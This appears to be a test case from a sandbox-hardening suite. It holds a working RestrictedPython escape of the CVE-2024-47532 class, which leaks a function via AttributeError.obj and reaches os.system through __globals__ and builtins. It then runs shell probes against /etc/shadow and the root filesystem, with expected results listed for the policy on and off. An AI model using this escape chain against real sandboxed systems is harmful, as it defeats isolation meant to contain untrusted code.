# row: B24
# attack: RestrictedPython CVE-2024-47532 class: `AttributeError.obj` hands back the object whose
#   attribute lookup failed; from the leaked function its `__globals__` lead to builtins and os.
# v-on-policy: strict
# v-on-finding: rule=attribute.denied source=ast text='obj'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B24
# limits: wall_time_s=5
SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B24"
)


def target():
    return None


try:
    getattr(target, "no_such_attribute")
except AttributeError as caught:
    leaked = caught.obj
try:
    builtins_ns = leaked.__globals__["__builtins__"]
    importer = builtins_ns["__import__"] if isinstance(builtins_ns, dict) else builtins_ns.__import__
    system = importer("os").system
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
